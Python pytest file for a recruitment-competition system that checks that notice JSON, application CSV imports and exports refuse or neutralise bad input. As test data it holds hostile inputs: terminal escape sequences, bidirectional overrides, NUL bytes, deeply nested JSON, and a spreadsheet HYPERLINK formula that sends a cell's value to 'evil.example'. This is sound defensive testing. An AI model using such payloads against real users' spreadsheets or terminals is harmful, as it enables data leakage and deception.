"""Bad input, one line, nothing changed, no personal data (issue 10 §6): what the notice JSON, the
CSV importers and the exports refuse or neutralise, each with the place named; and loading a
competition whose application deadline has passed from the account system's files (§5, C3)."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest
from sqlalchemy import func, select

from casework.competitions import files
from casework.competitions.definition import DefinitionError, parse_definition
from casework.competitions.errors import CompetitionError
from casework.competitions.models import Application, ApplicationState, Candidate, Question

from . import factories as f
from .test_files import APP_HEADER, RESULT_HEADER, application_row, mcq_keys, write_csv

# --- notice JSON ---------------------------------------------------------------------------


def _assessment(d):
    return next(p for p in d["phases"] if p["code"] == "assessment")


@pytest.mark.parametrize("change, message", [
    # pass marks (C8, C9): NaN, infinite, negative, above the tests' maxima
    (lambda d: _assessment(d)["pass_marks"][0].update(min=float("nan")),
     r"^phases\[3\]\.pass_marks\[0\]\.min: is not a finite number \(NaN or infinite\)$"),
    (lambda d: _assessment(d)["pass_marks"][0].update(min="NaN"),
     r"^phases\[3\]\.pass_marks\[0\]\.min: is not a finite number: 'NaN'$"),
    (lambda d: _assessment(d)["pass_marks"][0].update(min="Infinity"), r"is not a finite number"),
    (lambda d: _assessment(d)["pass_marks"][0].update(min=-1), r"^phases\[3\]\.pass_marks\[0\]\.min: must be at least 0$"),
    (lambda d: _assessment(d)["pass_marks"][0].update(min=41),
     r"^phases\[3\]\.pass_marks\[0\]\.min: must be at most 40 \(the maximum of verbal \+ numerical \+ abstract\)$"),
    (lambda d: _assessment(d)["pass_marks"][2].update(min=101),
     r"^phases\[3\]\.pass_marks\[2\]\.min: must be at most 100 \(the maximum of interview\)$"),
    (lambda d: _assessment(d)["pass_marks"][0].update(tests=[]), r"pass_marks\[0\]\.tests: names at least one test"),
    (lambda d: _assessment(d)["pass_marks"][0].update(tests=["verbal", "verbal"]), r"'verbal' is listed twice"),
    (lambda d: _assessment(d)["pass_marks"][0].update(tests=[{"x": 1}]), r"tests\[0\]: no test \{'x': 1\} in this phase"),
    # a test's scale
    (lambda d: _assessment(d)["tests"][0].update(max=float("inf")), r"^phases\[3\]\.tests\[0\]\.max: is not a finite number"),
    (lambda d: _assessment(d)["tests"][0].update(max=-5), r"^phases\[3\]\.tests\[0\]\.max: must be at least 0$"),
    (lambda d: _assessment(d)["tests"][0].update(min=-1), r"^phases\[3\]\.tests\[0\]\.min: must be at least 0$"),
    (lambda d: _assessment(d)["tests"][0].update(min=21), r"^phases\[3\]\.tests\[0\]\.max: must be above min$"),
    (lambda d: _assessment(d)["tests"][0].update(max=10**9), r"^phases\[3\]\.tests\[0\]\.max: must be at most 100000$"),
    (lambda d: _assessment(d)["tests"][0].update(code="screener"), r"'screener' is reserved"),
    (lambda d: _assessment(d)["tests"][0].update(code="verbal reasoning"), r"tests\[0\]\.code: must be a code"),
    # places (C2): beyond any real number, not whole
    (lambda d: d["fields"][0].update(places=10**400), r"^fields\[0\]\.places: is beyond"),
    (lambda d: d["fields"][0].update(places=100_001), r"^fields\[0\]\.places: must be at most 100000$"),
    (lambda d: d["fields"][0].update(places=71.5), r"^fields\[0\]\.places: has the wrong type \(float\)$"),
    (lambda d: d["fields"][0].update(places=True), r"^fields\[0\]\.places: has the wrong type \(bool\)$"),
    (lambda d: d["fields"][0]["eligibility"][0].update(experience_months=-1), r"experience_months: must be a whole number from 0"),
    (lambda d: _assessment(d)["invitation_cap"].update(multiplier="1e400"), r"invitation_cap\.multiplier: must be at most 100$"),
    (lambda d: d["screener_scale"].update(mark=[True, 4]), r"^screener_scale\.mark: must be \[lowest, highest\]"),
    # unknown keys, at the top and nested, with the known ones listed
    (lambda d: d.update(place=71), r"^place: unknown key \(known here: amendment, application_deadline, .*title\)$"),
    (lambda d: d["fields"][0].update(place=71), r"^fields\[0\]\.place: unknown key \(known here: code, eligibility, name, places, screener\)$"),
    (lambda d: _assessment(d)["tests"][1].update(maximum=10), r"^phases\[3\]\.tests\[1\]\.maximum: unknown key \(known here: code, kind, language, max, min, name\)$"),
    (lambda d: _assessment(d)["pass_marks"][1].update(eliminatroy=True), r"^phases\[3\]\.pass_marks\[1\]\.eliminatroy: unknown key"),
    (lambda d: d["languages"].update(language_3=["DE"]), r"^languages\.language_3: unknown key"),
    (lambda d: d["rule_set"].update(overides={}), r"^rule_set\.overides: unknown key \(known here: base, overrides, rules, source\)$"),
    (lambda d: d.update(amendment={"reason": "x"}), r"^amendment\.reason: unknown key"),
    # languages (C4), education levels (C5), rule set (D9)
    (lambda d: d["languages"].update(language_2=["EN", "XX"]), r"^languages\.language_2\[1\]: unknown language 'XX' \(the 24 official languages: BG"),
    (lambda d: d["languages"].update(language_2=["EN", "EN"]), r"^languages\.language_2\[1\]: EN is listed twice$"),
    (lambda d: d["fields"][0]["eligibility"][0].update(education="phd"), r"unknown education level 'phd' \(the notice's education_levels: secondary"),
    (lambda d: d.update(education_levels=["degree", "degree"]), r"^education_levels\[1\]: 'degree' is listed twice$"),
    (lambda d: d.update(education_levels=["degree 4y"]), r"^education_levels\[0\]: must be a code"),
    (lambda d: d.update(rule_set={"base": "1999"}), r"^rule_set: is not a rule set the deadline engine can use: unknown rule set '1999'"),
    (lambda d: d.update(rule_set={"base": "2022", "overrides": {"review": {"period": "ten days"}}}), r"^rule_set: .*malformed period"),
    # dates: a period that ends before it starts, impossible years
    (lambda d: d.update(application_deadline="2022-02-16T12:00"), r"^application_deadline: is before published_on$"),
    (lambda d: d.update(published_on="0001-01-01"), r"^published_on: must be between 1950 and 2199$"),
    (lambda d: d.update(application_deadline="9999-12-31T23:59"), r"^application_deadline: must be between 1950 and 2199$"),
    (lambda d: d.update(amendment={"published_on": "2021-01-01"}), r"^amendment\.published_on: is before the notice's published_on$"),
    # references: a documented pattern, no control characters, separators, '..' or unbounded length
    (lambda d: d.update(reference="EPSO/AD/398/22\n"), r"^reference: holds a control character \(U\+000A\)$"),
    (lambda d: d.update(reference="EPSO/AD/\x1b[31m398/22"), r"^reference: holds a control character \(U\+001B\)$"),
    (lambda d: d.update(reference="EPSO\\AD\\398\\22"), r"^reference: must be capital letters and digits in 2 to 6 segments"),
    (lambda d: d.update(reference="EPSO/../398/22"), r"^reference: must be capital letters"),
    (lambda d: d.update(reference="EPSO//398/22"), r"^reference: must be capital letters"),
    (lambda d: d.update(reference="/EPSO/AD/398/22"), r"^reference: must be capital letters"),
    (lambda d: d.update(reference="epso/ad/398/22"), r"^reference: must be capital letters"),
    (lambda d: d.update(reference="EPSO/AD/" + "9" * 40), r"^reference: must be .*at most 40 characters"),
    (lambda d: d.update(reference="X" * 100_000), r"^reference: is longer than 10000 characters$"),
    # text: control characters and bidirectional overrides (a terminal, a PDF, PostgreSQL's NUL)
    (lambda d: d.update(title="ICT\x00experts"), r"^title: holds a control character \(U\+0000\)$"),
    (lambda d: d["fields"][0].update(name="ICT \u202eerutcurtsarfni"), r"^fields\[0\]\.name: holds a control character \(U\+202E\)$"),
    (lambda d: d["rule_set"]["overrides"]["name-withholding"].update(source="C12\x00"),
     r"^rule_set\.overrides\.name-withholding\.source: holds a control character \(U\+0000\)$"),
    (lambda d: d.update(title="x" * 301), r"^title: is longer than 300 characters$"),
])
def test_notice_json_refusals_name_the_path(change, message):
    doc = f.document(f.AD398)
    change(doc)
    with pytest.raises(DefinitionError, match=message):
        parse_definition(doc)


def test_the_demo_references_follow_the_documented_pattern():
    # EPSO/AD/398/22, EPSO/AST/151/22, EPSO/AD/402/23; other bodies' references of the same shape too
    for name in (f.AD398, f.AST151, f.AD402, f.AD402_AMENDMENT):
        parse_definition(f.document(name))
    for reference in ("EPSO/AD/1/24", "EPSO/AST-SC/14/24", "COM/2024/001", "EPSO/CAST/P/1/2017"):
        parse_definition(f.document(f.AD398, reference=reference))


def test_a_notice_nested_100000_levels_deep_is_one_line(tmp_path, session):
    path = tmp_path / "deep.json"
    path.write_text('{"reference": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    with pytest.raises(files.ImportFileError, match=r"^invalid JSON: nested too deeply"):
        files.read_json(path)
    with pytest.raises(files.ImportFileError, match=r"^invalid JSON: nested too deeply"):
        files.import_notice(session, path, actor=f.ACTOR)
    # nesting the parser still reads is bounded by the definition, iteratively, with the path
    doc = f.document(f.AD398)
    deep: list = []
    doc["title"] = deep
    for _ in range(500):
        deep.append([])
        deep = deep[0]
    with pytest.raises(DefinitionError, match=r"^title(\[0\])+…?: is nested deeper than 32 levels$"):
        parse_definition(doc)


@pytest.mark.parametrize("content, message", [
    ('{"reference": NaN}', r"^reference: is not a finite number \(NaN or infinite\)$"),   # read, refused with its path
    ('{"a": 1, "a": 2}', r"^invalid JSON: the key 'a' appears twice in an object$"),
    ('{"a": ' + "9" * 5000 + "}", r"^invalid JSON: a number with more than 30 digits$"),
    ('{"a": 1e999}', r"^a: is not a finite number \(NaN or infinite\)$"),
])
def test_hostile_json_numbers_and_keys(tmp_path, content, message):
    path = tmp_path / "n.json"
    path.write_text(content, encoding="utf-8")
    with pytest.raises((files.ImportFileError, DefinitionError), match=message):
        parse_definition(files.read_json(path))


@pytest.mark.parametrize("encoding, message", [
    ("utf-16", r"^line 1: the file is UTF-16: the file must be encoded in UTF-8"),
    ("utf-16-le", r"^line 1: NUL bytes between the characters: the file looks like UTF-16; the file must be encoded in UTF-8"),
    ("latin-1", r"^line 3: not UTF-8 at byte \d+ of the line .*; the file must be encoded in UTF-8"),
])
def test_a_notice_not_in_utf8_is_refused(tmp_path, encoding, message):
    path = tmp_path / "n.json"
    path.write_bytes('{\n "reference": "EPSO/AD/398/22",\n "title": "Administratører"\n}'.encode(encoding))
    with pytest.raises(files.ImportFileError, match=message):
        files.read_json(path)


def test_a_notice_file_too_large_is_refused_before_it_is_read(tmp_path):
    path = tmp_path / "big.json"
    path.write_bytes(b" " * (files.MAX_JSON_BYTES + 1))
    with pytest.raises(files.ImportFileError, match=r"^big\.json: larger than 4 MiB, refused$"):
        files.read_json(path)


def test_amendment_dated_before_the_current_version_is_refused(session, frozen):
    from datetime import date

    from casework.competitions.notices import amend_notice
    notice = f.publish(session, f.AD402, only_fields=("1",))
    with pytest.raises(CompetitionError, match=r"publication date 2023-06-01 is before that of version 1 \(2023-06-22\)"):
        amend_notice(session, f.document(f.AD402_AMENDMENT, only_fields=("1",)), actor=f.ACTOR,
                     reason="C/2024/3223", published_on=date(2023, 6, 1))
    with pytest.raises(CompetitionError, match=r"the reason must be a text"):
        amend_notice(session, f.document(f.AD402_AMENDMENT, only_fields=("1",)), actor=f.ACTOR,
                     reason="\x1b[2J", published_on=date(2024, 5, 28))
    assert len(notice.versions) == 1


# --- CSV: encodings, NUL, control characters ------------------------------------------------

def _apps_text(rows, header=APP_HEADER):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _counts(session):
    return (session.scalar(select(func.count()).select_from(Application)),
            session.scalar(select(func.count()).select_from(Candidate)))


@pytest.mark.parametrize("encoding, message", [
    ("latin-1", (r"^line 3: not UTF-8 at byte 28 of the line \(a latin-1, cp1250 or other Windows export\?\); "
                r"the file must be encoded in UTF-8 \(export it as 'CSV UTF-8'\)$")),
    ("cp1250", r"^line 3: not UTF-8 at byte 28 of the line"),
    ("utf-16", r"^line 1: the file is UTF-16: the file must be encoded in UTF-8"),
    ("utf-16-be", r"^line 1: NUL bytes between the characters: the file looks like UTF-16"),
    ("utf-32", r"^line 1: the file is UTF-32"),
])
def test_csv_in_another_encoding_is_refused_naming_utf8(session, frozen, tmp_path, encoding, message):
    notice = f.publish(session, f.AD402)
    text = _apps_text([application_row("A-1"), application_row("A-2", surname="Müller")])
    path = tmp_path / "apps.csv"
    path.write_bytes(text.encode(encoding))
    with pytest.raises(files.ImportFileError, match=message) as refused:
        files.import_applications(session, notice, path, actor=f.ACTOR)
    assert "M" not in str(refused.value).split(";")[0]
    assert _counts(session) == (0, 0)


def test_utf8_with_a_byte_order_mark_is_read(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    path = tmp_path / "apps.csv"
    path.write_bytes(_apps_text([application_row("A-1", surname="Dvořáková")]).encode("utf-8-sig"))
    assert files.import_applications(session, notice, path, actor=f.ACTOR) == 1


def test_a_nul_byte_is_refused_with_its_line_before_the_database(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    path = tmp_path / "apps.csv"
    path.write_bytes(_apps_text([application_row("A-1"), application_row("A-2", surname="Ber\x00g")]).encode())
    with pytest.raises(files.ImportFileError, match=r"^line 3: a NUL byte at byte \d+ of the line: not allowed"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    assert _counts(session) == (0, 0)


@pytest.mark.parametrize("surname, code", [
    ("Berg\x1b]0;pwned\x07", "U+001B"), ("Berg\u202egreB", "U+202E"), ("Berg\tBerg", "U+0009"),
    ("Berg\x85", "U+0085"),
])
def test_control_characters_in_a_name_are_refused_naming_the_cell(session, frozen, tmp_path, surname, code):
    notice = f.publish(session, f.AD402)
    path = tmp_path / "apps.csv"
    path.write_text(_apps_text([application_row("A-1"), application_row("A-2", surname=surname)]), encoding="utf-8")
    with pytest.raises(files.ImportFileError,
                       match=rf"^line 3, column surname: a control character \({re.escape(code)}\) is not allowed$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)


def test_line_numbers_count_quoted_cells_over_several_lines_and_blank_lines(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    text = _apps_text([application_row("A-1")]) + "\n" + _apps_text(
        [application_row("A-2", diplomas="degree-3y:2020-02-30")])[len(",".join(APP_HEADER)) + 1:]
    path = tmp_path / "apps.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(files.ImportFileError, match=r"^line 4, column diplomas: '2020-02-30' is not a date"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    # a quoted cell over two lines: named at the line where its record starts, then refused
    rows = [application_row("A-1"), _with(application_row("A-2"), given_names="Anna\nMaria"), application_row("A-3")]
    path.write_text(_apps_text(rows), encoding="utf-8")
    with pytest.raises(files.ImportFileError, match=r"^line 3, column given_names: a line break inside the cell "
                                                    r"\(a quote not closed\?\) is not allowed$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)


@pytest.mark.parametrize("header, message", [
    ([*APP_HEADER, "validated_on"], r"^line 1: unknown column 'validated_on' \(known: application, .*, identity_valid_until, validated_at\)$"),
    ([*APP_HEADER, "email"], r"^line 1: the column email appears twice$"),
])
def test_unknown_or_repeated_columns_are_refused(session, frozen, tmp_path, header, message):
    notice = f.publish(session, f.AD402)
    path = write_csv(tmp_path / "apps.csv", header, [[*application_row("A-1"), ""]])
    with pytest.raises(files.ImportFileError, match=message):
        files.import_applications(session, notice, path, actor=f.ACTOR)


def test_more_cells_than_columns_and_oversized_cells(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1"), [*application_row("A-2"), "x"]])
    with pytest.raises(files.ImportFileError, match=r"^line 3: more cells than columns$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1", surname="x" * 20_000)])
    with pytest.raises(files.ImportFileError, match=r"^line 2, column surname: longer than 10000 characters$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1", surname="x" * 201)])
    with pytest.raises(files.ImportFileError, match=r"^line 2, column surname: longer than 200 characters$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)


# --- CSV: applications ---------------------------------------------------------------------

def _with(row, **cells):
    out = list(row)
    for column, value in cells.items():
        out[APP_HEADER.index(column)] = value
    return out


@pytest.mark.parametrize("email", [
    "not-an-address", "two@@example.eu", "@example.eu", "a@example", "a b@example.eu", "a@exa mple.eu",
    "a@.example.eu", "a@example..eu", "a@example.eu.", "a@b@example.eu", "x" * 250 + "@example.eu",
])
def test_email_that_is_not_an_address_is_refused_without_repeating_it(session, frozen, tmp_path, email):
    notice = f.publish(session, f.AD402)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [_with(application_row("A-1"), email=email)])
    with pytest.raises(files.ImportFileError, match=r"^line 2, column email: not an e-mail address$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)


@pytest.mark.parametrize("cells, message", [
    ({"correspondence_language": "XX"}, r"^line 2, column correspondence_language: unknown language 'XX' \(the 24 official languages"),
    ({"correspondence_language": "english"}, r"^line 2, column correspondence_language: unknown language 'english'"),
    ({"language_1": "de"}, r"^line 2, column language_1: unknown language 'de'"),
    ({"levels": "DE=C2/C2/C2/C9 FR=B2/B2/B2/B2"}, r"^line 2, column levels: 'DE=C2/C2/C2/C9': levels are CEFR levels"),
    ({"levels": "DE=C2/C2/C2/C2 DE=B2/B2/B2/B2"}, r"^line 2, column levels: DE is given twice$"),
    ({"diplomas": "phd:2010-06-30"}, r"^line 2, column diplomas: 'phd:2010-06-30': unknown education level 'phd' \(known: secondary-access-higher"),
    ({"diplomas": "degree-3y:2022-03-02"}, r"^line 2, column diplomas: 'degree-3y:2022-03-02': the award is in the future$"),
    ({"experience": "2022-03-02/@1"}, r"^line 2, column experience: '2022-03-02/@1': the start is in the future$"),
    ({"experience": "2020-01-01/2022-12-31@1"}, r"the end \(leave END empty for ongoing experience\) is in the future$"),
    ({"experience": "2021-01-01/2020-12-31@1"}, r"^line 2, column experience: '2021-01-01/2020-12-31@1': ends before it starts$"),
    ({"experience": "2020-01-01/@NaN"}, r"the share of full time must be in \(0, 1\]"),
    ({"experience": "2020-01-01/@0.5e0"}, r"the share of full time must be in \(0, 1\]"),
    ({"experience": "2008-01-01/2008-12-31@1+military+statutory=\u00b2"}, r"statutory=MONTHS needs a whole number"),
    ({"application": "A" * 41}, r"^line 2, column application: longer than 40 characters$"),
    ({"identity_key": "K" * 101}, r"^line 2, column identity_key: longer than 100 characters$"),
    ({"validated": "oui"}, r"^line 2, column validated: 'oui': expected yes or no$"),
])
def test_application_cells_refused_with_line_and_column(session, frozen, tmp_path, cells, message):
    notice = f.publish(session, f.AD402)
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [_with(application_row("A-1"), **cells)])
    with pytest.raises(files.ImportFileError, match=message):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    assert _counts(session) == (0, 0)


def test_duplicate_application_number_in_the_file_names_both_lines(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    rows = [application_row("A-1"), application_row("A-2"), _with(application_row("A-3"), application="A-1")]
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, rows)
    with pytest.raises(files.ImportFileError,
                       match=r"^line 4, column application: the same application number as line 2$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)


def test_duplicate_application_number_against_the_database_is_one_line(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    files.import_applications(session, notice, write_csv(tmp_path / "a.csv", APP_HEADER, [application_row("A-1")]),
                              actor=f.ACTOR)
    before = _counts(session)
    path = write_csv(tmp_path / "b.csv", APP_HEADER, [application_row("B-1"), _with(application_row("B-2"), application="A-1")])
    savepoint = session.begin_nested()
    with pytest.raises(files.ImportFileError, match=r"^line 3, column application: this application number exists already$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    savepoint.rollback()
    assert _counts(session) == before


def test_same_person_or_address_twice_is_one_line_without_the_address(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402)
    again = _with(application_row("A-2"), identity_key="ID-A-1", email="a-1@example.eu")
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1"), again])
    savepoint = session.begin_nested()
    with pytest.raises(files.ImportFileError, match=r"^line 3, column identity_key: this person has applied to "
                                                    r"EPSO/AD/402/23 already \(C2: one field per notice\)$"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    savepoint.rollback()
    other = _with(application_row("A-2"), email="a-1@example.eu")
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [application_row("A-1"), other])
    with pytest.raises(files.ImportFileError, match=r"^line 3, column email: the same e-mail address as line 2, "
                                                    r"for another identity \(C1\)$") as refused:
        files.import_applications(session, notice, path, actor=f.ACTOR)
    assert "example.eu" not in str(refused.value)


# --- historical data: validated_at (C3, issue 10 §5) ---------------------------------------

HISTORICAL = [*APP_HEADER, "validated_at"]


def test_after_the_deadline_validated_needs_the_instant_recorded_by_the_account_system(session, frozen, tmp_path):
    notice = f.publish(session, f.AD398, only_fields=("1",))
    frozen.set(datetime(2024, 1, 15, 9, tzinfo=UTC))          # long after 22 March 2022, 12:00
    row = application_row("H-1", language_2="EN")
    path = write_csv(tmp_path / "apps.csv", APP_HEADER, [row])
    with pytest.raises(files.ImportFileError, match=r"^line 2, column validated: the application deadline has passed: "
                                                    r"to load a competition from the account system's files, give the "
                                                    r"validation instant it recorded in the column validated_at"):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    path = write_csv(tmp_path / "apps.csv", HISTORICAL, [[*row, "2022-03-21T09:15:00+01:00"],
                                                         [*application_row("H-2", language_2="EN", validated=""),
                                                          "2022-03-22T11:59:59+01:00"],
                                                         [*application_row("H-3", language_2="EN", validated="no"), ""]])
    assert files.import_applications(session, notice, path, actor=f.ACTOR) == 3
    h1, h2, h3 = (session.scalar(select(Application).where(Application.number == n)) for n in ("H-1", "H-2", "H-3"))
    assert (h1.state, h1.validated_at) == (ApplicationState.VALIDATED, datetime(2022, 3, 21, 8, 15, tzinfo=UTC))
    assert (h2.state, h2.validated_at) == (ApplicationState.VALIDATED, datetime(2022, 3, 22, 10, 59, 59, tzinfo=UTC))
    assert (h3.state, h3.validated_at) == (ApplicationState.DRAFT, None)
    from casework.models import AuditEvent
    audit = session.scalar(select(AuditEvent).where(AuditEvent.entity == "application", AuditEvent.entity_id == h1.id,
                                                    AuditEvent.action == "validate"))
    assert audit.changes["validated_at"] == "2022-03-21T08:15:00+00:00"
    # the phases run on the recorded data: the application phase closes as it would have
    f.close(session, notice, "application")
    f.refresh(session, h1, h3)
    assert (h1.phase, h3.status.value) == ("eligibility", "eliminated")      # not validated (C3)


@pytest.mark.parametrize("validated_at, validated, message", [
    ("2022-03-22T12:00:01+01:00", "yes", (r"^line 2, column validated_at: the validation instant is after the "
                                         r"application deadline \(2022-03-22T12:00:00\+01:00, C3\): not a valid application$")),
    ("2022-03-22T11:00:01Z", "yes", r"after the application deadline"),       # 12:00:01 Brussels
    ("2022-02-16T12:00:00+01:00", "yes", r"^line 2, column validated_at: the validation instant is before the notice was published \(2022-02-17\)$"),
    ("2024-02-01T12:00:00+01:00", "yes", r"^line 2, column validated_at: the validation instant is in the future$"),
    ("2022-03-21T09:15:00", "yes", r"^line 2, column validated_at: '2022-03-21T09:15:00' is not a date and time with its offset"),
    ("21/03/2022 09:15", "yes", r"is not a date and time with its offset"),
    ("2022-03-21T09:15:00+01:00", "no", r"^line 2, column validated_at: a validation instant for an application that is not validated"),
])
def test_validated_at_is_checked_against_the_deadline_and_the_clock(session, frozen, tmp_path, validated_at, validated,
                                                                     message):
    notice = f.publish(session, f.AD398, only_fields=("1",))
    frozen.set(datetime(2024, 1, 15, 9, tzinfo=UTC))
    path = write_csv(tmp_path / "apps.csv", HISTORICAL,
                     [[*application_row("H-1", language_2="EN", validated=validated), validated_at]])
    with pytest.raises(files.ImportFileError, match=message):
        files.import_applications(session, notice, path, actor=f.ACTOR)
    assert _counts(session) == (0, 0)


def test_before_the_deadline_validated_at_is_kept_and_without_it_the_clock_stamps(session, frozen, tmp_path):
    notice = f.publish(session, f.AD398, only_fields=("1",))        # clock: 1 March 2022, deadline 22 March
    path = write_csv(tmp_path / "apps.csv", HISTORICAL,
                     [[*application_row("H-1", language_2="EN"), "2022-02-20T10:00:00+01:00"],
                      [*application_row("H-2", language_2="EN"), ""]])
    files.import_applications(session, notice, path, actor=f.ACTOR)
    h1, h2 = (session.scalar(select(Application).where(Application.number == n)) for n in ("H-1", "H-2"))
    assert h1.validated_at == datetime(2022, 2, 20, 9, tzinfo=UTC)
    assert h2.validated_at == frozen.now()


def test_validate_application_refuses_a_recorded_instant_after_the_deadline(session, frozen):
    from casework.competitions import applications as apps
    notice = f.publish(session, f.AD398, only_fields=("1",))
    a = f.apply(session, notice, validate=False)
    frozen.set(datetime(2022, 4, 1, 9, tzinfo=UTC))
    with pytest.raises(CompetitionError, match=r"after the application deadline"):
        apps.validate_application(session, a, actor=f.ACTOR, validated_at=datetime(2022, 3, 22, 11, 1, tzinfo=UTC))
    with pytest.raises(CompetitionError, match=r"needs its offset"):
        apps.validate_application(session, a, actor=f.ACTOR, validated_at=datetime(2022, 2, 20, 11))
    assert a.state is ApplicationState.DRAFT


# --- CSV: answer keys and results ----------------------------------------------------------

def test_results_keys_with_an_existing_question_is_one_line(session, frozen, tmp_path):
    notice = f.publish(session, f.AD402, only_fields=("1",))
    assert files.import_questions(session, notice, mcq_keys(tmp_path)) == 70
    again = write_csv(tmp_path / "again.csv", ["test", "question", "correct", "points"],
                      [("verbal", "V21", "A", "1"), ("verbal", "V3", "B", "1")])
    savepoint = session.begin_nested()
    with pytest.raises(files.ImportFileError, match=r"^line 3, column question: verbal V3 has a key already: "
                                                    r"a key is imported once \(a wrong question is neutralised, P1\)$"):
        files.import_questions(session, notice, again)
    savepoint.rollback()
    assert session.scalar(select(func.count()).select_from(Question)) == 70


@pytest.mark.parametrize("rows, message", [
    ([("verbal", "V1", "A", "1"), ("verbal", "V1", "B", "1")], r"^line 3, column question: verbal V1 is on line 2 already$"),
    ([("verbal", "V 1", "A", "1")], r"^line 2, column question: 'V 1' is not a code"),
    ([("verbal", "V1", "A B", "1")], r"^line 2, column correct: 'A B' is not a code"),
    ([("verbal", "V1", "-", "1")], r"^line 2, column correct: '-' is not a code"),
    ([("verbal", "V1", "A", "NaN")], r"^line 2, column points: 'NaN' is not a number$"),
    ([("verbal", "V1", "A", "1e9")], r"^line 2, column points: must be more than 0 and at most 1000"),
    ([("verbal", "V1", "A", "0.00001")], r"^line 2, column points: must be more than 0 and at most 1000, with at most 4 decimals$"),
])
def test_answer_key_cells_refused(session, frozen, tmp_path, rows, message):
    notice = f.publish(session, f.AD402, only_fields=("1",))
    path = write_csv(tmp_path / "keys.csv", ["test", "question", "correct", "points"], rows)
    with pytest.raises(files.ImportFileError, match=message):
        files.import_questions(session, notice, path)


@pytest.mark.parametrize("row, message", [
    (["A-1", "screener", "Q1=\u00b2", "", "", ""], r"^line 2, column value: 'Q1=²' is not QUESTION=MARK$"),
    (["A-1", "screener", "Q1=" + "9" * 5000, "", "", ""], r"^line 2, column value: .* is not QUESTION=MARK$"),
    (["A-1", "screener", "Q1=4 Q1=3", "", "", ""], r"^line 2, column value: question 'Q1' is marked twice$"),
    (["A-1", "screener", "=4", "", "", ""], r"is not QUESTION=MARK"),
    (["A-1", "interview", "1e999999", "", "", ""], r"^line 2: interview: mark 1E\+999999 outside 0–100$"),
    (["A-1", "interview", "sNaN", "", "", ""], r"^line 2, column value: 'sNaN' is not a number$"),
    (["A-1", "verbal", "", "V1 V1", "A A", ""], r"^line 2, column questions: a question is listed twice$"),
])
def test_result_cells_refused(session, frozen, tmp_path, row, message):
    notice = f.publish(session, only_fields=("1",))
    a = f.apply(session, notice)
    row = [a.number if row[0] == "A-1" else row[0], *row[1:]]
    path = write_csv(tmp_path / "r.csv", RESULT_HEADER, [row])
    with pytest.raises(files.ImportFileError, match=message):
        files.import_results(session, notice, path)


def test_record_mark_refuses_a_mark_that_is_not_a_number(session, frozen):
    from decimal import Decimal

    from casework.competitions.results import record_mark
    notice = f.publish(session, only_fields=("1",))
    a = f.apply(session, notice)
    with pytest.raises(CompetitionError, match=r"^interview: the mark is not a finite number$"):
        record_mark(session, a, "interview", Decimal("NaN"))


# --- exports -------------------------------------------------------------------------------

def test_csv_export_neutralises_formulas_and_json_stays_raw():
    rows = [{"rank": 1, "surname": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "score": "-1.5"},
            {"rank": 2, "surname": "+Berg", "score": "-3"},
            {"rank": 3, "surname": "-2+3", "score": "12.5"},
            {"rank": 4, "surname": "@SUM(A1:A9)", "score": "+7"},
            {"rank": 5, "surname": "\tTab", "score": "1e3"},
            {"rank": 6, "surname": "\rCr", "score": None},
            {"rank": 7, "surname": "Dvořáková-Berg", "score": "-"}]
    out = io.StringIO()
    files.write_rows(rows, "csv", out)
    cells = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [c["surname"] for c in cells] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'+Berg", "'-2+3",
                                             "'@SUM(A1:A9)", "'\tTab", "'\rCr", "Dvořáková-Berg"]
    assert [c["score"] for c in cells] == ["-1.5", "-3", "12.5", "+7", "1e3", "", "'-"]
    out = io.StringIO()
    files.write_rows(rows, "json", out)
    assert json.loads(out.getvalue()) == rows


def test_count_lines_never_fails_on_the_encoding(tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes("a,b\nÆ,ø\n".encode("utf-16"))
    assert files.count_lines(path) == 2
    assert files.count_lines(tmp_path / "missing.csv") == 0


# --- dates that have not happened yet -------------------------------------------------------

def test_an_amendment_dated_after_today_is_refused(session, frozen):
    """C14: the last version is the one in force; an amendment dated in the future would apply at once
    and refuse every later amendment dated before it."""
    from datetime import date

    from casework.competitions.notices import amend_notice
    notice = f.publish(session, f.AD398, only_fields=("1",))
    frozen.set(datetime(2022, 6, 1, 21, 30, tzinfo=UTC))       # 23:30 in Brussels: 1 June there
    for day in (date(2099, 1, 1), date(2022, 6, 2)):
        with pytest.raises(CompetitionError, match=rf"^the amendment's publication date {day} is after today "
                                                   r"\(2022-06-01\)"):
